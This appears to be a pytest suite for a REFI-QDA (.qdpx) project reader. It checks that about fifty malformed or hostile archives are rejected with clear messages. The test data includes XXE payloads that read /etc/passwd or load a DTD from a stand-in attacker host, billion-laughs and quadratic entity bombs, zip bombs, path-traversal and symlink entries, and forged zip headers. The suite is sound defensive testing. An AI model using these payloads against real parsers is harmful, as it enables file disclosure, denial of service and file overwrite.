"""Hostile and broken inputs: each is refused with a message that says what is wrong, and nothing is returned.

All files are built here in memory; none is committed. Caps are lowered with ZipLimits where the default
would need hundreds of megabytes to trip, so the suite stays fast.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest

from commed_core.refiqda import RefiQdaError, ZipLimits, read_codebook, read_project

from ._build import CODE, NS, SOURCE, TEXT, USER, patch_central, patch_local, project_xml, qdpx, selection
from ._build import simple_qdpx as simple

CB_NS = "urn:QDA-XML:codebook:1.0"
OTHER_CODE = "66666666-6666-4666-8666-666666666666"


def _symlink_entry() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("project.qde", project_xml())
        link = zipfile.ZipInfo(f"sources/{SOURCE}.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def _overlapping() -> bytes:
    data = qdpx({"project.qde": project_xml(), f"sources/{SOURCE}.txt": TEXT})
    return patch_central(data, 1, 42, "<I", 0)


def _lying_small() -> bytes:
    data = qdpx({"project.qde": project_xml(), f"sources/{SOURCE}.txt": TEXT})
    return patch_local(patch_central(data, 0, 24, "<I", 40), 0, 22, "<I", 40)


def _lying_large() -> bytes:
    data = qdpx({"project.qde": project_xml(), f"sources/{SOURCE}.txt": TEXT})
    return patch_local(patch_central(data, 0, 24, "<I", 500_000), 0, 22, "<I", 500_000)


def _encrypted() -> bytes:
    return patch_central(simple(), 0, 8, "<H", 1)


def _ratio_bomb() -> bytes:
    return qdpx({"project.qde": project_xml(), f"sources/{SOURCE}.txt": b"\0" * (4 * 1024 * 1024)})


def _entry(name: str) -> Callable[[], bytes]:
    def build() -> bytes:
        return qdpx({"project.qde": project_xml(), f"sources/{SOURCE}.txt": TEXT, name: "x"})

    return build


XXE = (
    '<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    f'<Project xmlns="{NS}" name="&xxe;"/>'
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + f']><Project xmlns="{NS}" name="&lol9;"/>'
)
QUADRATIC = (
    f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "{"x" * 50_000}">]>'
    f'<Project xmlns="{NS}" name="{"&a;" * 1000}"/>'
)
PLAIN_DTD = f'<?xml version="1.0"?><!DOCTYPE Project SYSTEM "project.dtd"><Project xmlns="{NS}" name="p"/>'
PARAM_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]>'
    f'<Project xmlns="{NS}" name="p"/>'
)

TWO_CODES_SAME_GUID = (
    f'<Code guid="{CODE}" name="a" isCodable="true"/><Code guid="{CODE}" name="b" isCodable="true"/>'
)
CASE_TWIN = (
    f'<Code guid="{CODE}" name="a" isCodable="true"/>'
    f'<Code guid="{{{CODE.upper()}}}" name="b" isCodable="true"/>'
)


def _source(body: str, path: str = f"internal://{SOURCE}.txt") -> str:
    return f'<TextSource guid="{SOURCE}" name="t" plainTextPath="{path}">{body}</TextSource>'


def _deep_codes(depth: int) -> str:
    guids = [f"{i:08x}-0000-4000-8000-000000000000" for i in range(depth)]
    opening = "".join(f'<Code guid="{g}" name="c{i}" isCodable="true">' for i, g in enumerate(guids))
    return f'<Code guid="{CODE}" name="top" isCodable="true"/>' + opening + "</Code>" * depth


def _huge_attribute() -> bytes:
    # Stored, not deflated: a repetitive 1 MiB attribute would (rightly) trip the ratio check first.
    qde = project_xml(head=f'<Project xmlns="{NS}" name="{"n" * (1024 * 1024 + 1)}">')
    return qdpx({"project.qde": qde, f"sources/{SOURCE}.txt": TEXT}, compression=zipfile.ZIP_STORED)


SMALL = ZipLimits(max_entries=5, max_total_bytes=10_000, max_entry_bytes=8_000, max_archive_bytes=50_000)

PROJECT_CASES: list[tuple[str, Callable[[], bytes], str, ZipLimits | None]] = [
    ("empty file", lambda: b"", "empty", None),
    ("random bytes", lambda: b"this is not a zip at all, just words", "not a readable zip", None),
    ("truncated zip", lambda: simple()[: len(simple()) // 2], "not a readable zip", None),
    ("zip cut before the central directory ends", lambda: simple()[:-10], "not a readable zip", None),
    ("an XML file instead of a zip", lambda: project_xml().encode(), "not a .qdpx zip", None),
    ("no project.qde", lambda: qdpx({"readme.txt": "hello"}), "no project.qde", None),
    ("an empty zip", lambda: qdpx({}), "no project.qde", None),
    ("highly compressed entry (ratio bomb)", _ratio_bomb, "zip bomb", None),
    ("overlapping entries (non-recursive bomb)", _overlapping, "overlap", None),
    (
        "too many entries",
        lambda: qdpx({**{f"sources/{i}.txt": "x" for i in range(6)}, "project.qde": "x"}),
        "entries, over the limit of 5",
        SMALL,
    ),
    (
        "declared total too large",
        lambda: qdpx({"project.qde": "x" * 7000, "sources/a.txt": "y" * 7000}),
        "in total",
        SMALL,
    ),
    ("declared entry too large", lambda: qdpx({"project.qde": "x" * 9000}), "declares 9000 bytes", SMALL),
    (
        "archive too large",
        lambda: qdpx({"project.qde": bytes(range(256)) * 300}, compression=zipfile.ZIP_STORED),
        "over the limit of 50000",
        SMALL,
    ),
    ("header declares fewer bytes than stored", _lying_small, "header lies", None),
    ("header declares more bytes than stored", _lying_large, "'project.qde'", None),
    ("encrypted entry", _encrypted, "encrypted", None),
    ("path traversal ../../x", _entry("../../x"), "'..'", None),
    ("traversal inside sources/", _entry("sources/../../etc/cron.d/x"), "'..'", None),
    ("absolute /etc/x", _entry("/etc/x"), "absolute", None),
    ("drive letter C:/x", _entry("C:/windows/x"), "absolute", None),
    ("backslash trick", _entry("..\\..\\x"), "backslash", None),
    ("symlink entry", _symlink_entry, "symbolic link", None),
    (
        "duplicate entry names differing in case",
        lambda: qdpx({"project.qde": project_xml(), "Project.qde": "x"}),
        "appears twice",
        None,
    ),
    ("XXE external entity to /etc/passwd", lambda: simple(XXE), "DTD", None),
    ("billion laughs", lambda: simple(LAUGHS), "DTD", None),
    ("quadratic blowup", lambda: simple(QUADRATIC), "DTD", None),
    ("a DTD reference", lambda: simple(PLAIN_DTD), "DTD", None),
    ("parameter entity to a remote DTD", lambda: simple(PARAM_ENTITY), "DTD", None),
    ("project.qde is not XML", lambda: simple("this is { not xml"), "not well-formed", None),
    ("project.qde is empty", lambda: simple(""), "empty", None),
    ("project.qde is cut in the middle", lambda: simple(project_xml()[:80]), "not well-formed", None),
    ("wrong root element", lambda: simple(f'<CodeBook xmlns="{NS}"/>'), "root element is <CodeBook>", None),
    (
        "foreign namespace",
        lambda: simple('<Project xmlns="http://www.w3.org/1999/xhtml" name="p"/>'),
        "not a REFI-QDA",
        None,
    ),
    ("negative start", lambda: simple(sources=_source(selection(-1, 5))), "outside the text", None),
    ("end beyond the text", lambda: simple(sources=_source(selection(0, 10_000))), "outside the text", None),
    ("start after end", lambda: simple(sources=_source(selection(9, 3))), "outside the text", None),
    (
        "positions that are not integers",
        lambda: simple(sources=_source(selection("a", "b"))),
        "not integers",
        None,
    ),
    ("broken UTF-8 in a source", lambda: simple(text=b"caf\xc3 ok \xff\xfe!"), "not valid UTF-8", None),
    ("duplicate code GUIDs", lambda: simple(codes=TWO_CODES_SAME_GUID), f"duplicate GUID {CODE}", None),
    ("duplicate GUIDs spelt differently", lambda: simple(codes=CASE_TWIN), f"duplicate GUID {CODE}", None),
    (
        "GUID reused across kinds",
        lambda: simple(sources=_source(selection(guid=SOURCE))),
        f"duplicate GUID {SOURCE}",
        None,
    ),
    (
        "coding of a code that does not exist",
        lambda: simple(sources=_source(selection(code=OTHER_CODE))),
        f"refers to code {OTHER_CODE}: no such code",
        None,
    ),
    (
        "internal path climbing out",
        lambda: simple(sources=_source("", "internal://../../etc/passwd")),
        "points outside the flat sources/ folder",
        None,
    ),
    ("huge attribute", _huge_attribute, "characters long", None),
    ("codes nested 300 deep", lambda: simple(codes=_deep_codes(300)), "nested deeper than 200", None),
]


@pytest.mark.parametrize(
    ("build", "expected", "limits"),
    [pytest.param(b, e, lim, id=name) for name, b, e, lim in PROJECT_CASES],
)
def test_it_refuses_a_hostile_or_broken_project_with_a_clear_message(
    build: Callable[[], bytes], expected: str, limits: ZipLimits | None
) -> None:
    data = build()
    with pytest.raises(RefiQdaError) as caught:
        if limits is None:
            read_project(data)
        else:
            read_project(data, limits=limits)
    assert expected in str(caught.value)


CODEBOOK_CASES: list[tuple[str, bytes, str]] = [
    ("a zip instead of XML", simple(), "zip archive"),
    ("empty", b"", "empty"),
    ("XXE", XXE.replace("Project", "CodeBook").encode(), "DTD"),
    ("billion laughs", LAUGHS.replace("Project", "CodeBook").encode(), "DTD"),
    ("not XML", b"<CodeBook", "not well-formed"),
    ("wrong root", f'<Project xmlns="{CB_NS}" name="x"/>'.encode(), "root element is <Project>"),
    (
        "duplicate GUID",
        f'<CodeBook xmlns="{CB_NS}"><Codes>{TWO_CODES_SAME_GUID}</Codes></CodeBook>'.encode(),
        "duplicate GUID",
    ),
]


@pytest.mark.parametrize(("data", "expected"), [pytest.param(d, e, id=n) for n, d, e in CODEBOOK_CASES])
def test_it_refuses_a_hostile_or_broken_codebook_with_a_clear_message(data: bytes, expected: str) -> None:
    with pytest.raises(RefiQdaError) as caught:
        read_codebook(data)
    assert expected in str(caught.value)


def test_there_are_at_least_forty_hostile_files() -> None:
    assert len(PROJECT_CASES) + len(CODEBOOK_CASES) >= 40


def test_the_error_is_a_value_error_so_callers_can_catch_it_generically() -> None:
    with pytest.raises(ValueError, match="not a readable zip"):
        read_project(b"garbage!")


def test_it_never_opens_a_nested_zip_bomb_and_reports_the_media_source_as_not_imported() -> None:
    inner = qdpx({f"bomb{i}.txt": b"\0" * 100_000 for i in range(5)})
    video = (
        '<VideoSource guid="77777777-7777-4777-8777-777777777777" name="v" path="internal://bomb.zip">'
        '<VideoSelection guid="88888888-8888-4888-8888-888888888888" begin="0" end="10"/></VideoSource>'
    )
    sources = _source(selection()) + video
    data = qdpx(
        {
            "project.qde": project_xml(sources=sources),
            f"sources/{SOURCE}.txt": TEXT,
            "sources/bomb.zip": inner,
        }
    )
    project = read_project(data)
    assert [o.kind for o in project.other_sources] == ["VideoSource"]
    assert project.other_sources[0].imported is False
    assert any(
        "VideoSource 77777777" in line and "1 VideoSelection" in line for line in project.report.dropped
    )


def test_it_never_reads_relative_or_absolute_paths_from_disk() -> None:
    sources = _source("", "absolute:///etc/passwd").replace(
        SOURCE, "99999999-9999-4999-8999-999999999999"
    ) + _source(selection(), "relative:///interviews/one.txt")
    project = read_project(qdpx({"project.qde": project_xml(sources=sources)}))
    assert project.sources == []
    assert {o.path for o in project.other_sources} == {
        "absolute:///etc/passwd",
        "relative:///interviews/one.txt",
    }
    assert any(
        "absolute:///etc/passwd" in line and "not read" in line for line in project.report.missing_media
    )
    assert any("1 selection(s)" in line for line in project.report.dropped)


def test_a_coding_by_an_unknown_user_is_only_a_deviation() -> None:
    stranger = "abcdefab-cdef-4abc-8def-abcdefabcdef"
    project = read_project(simple(sources=_source(selection(user=stranger))))
    coding = project.sources[0].selections[0].codings[0]
    assert coding.creating_user == stranger
    assert any(f"user {stranger} is not among <Users>" in line for line in project.report.deviations)


def test_the_user_fixture_is_known() -> None:
    project = read_project(simple())
    assert project.users[0].guid == USER
    assert project.report.deviations == []
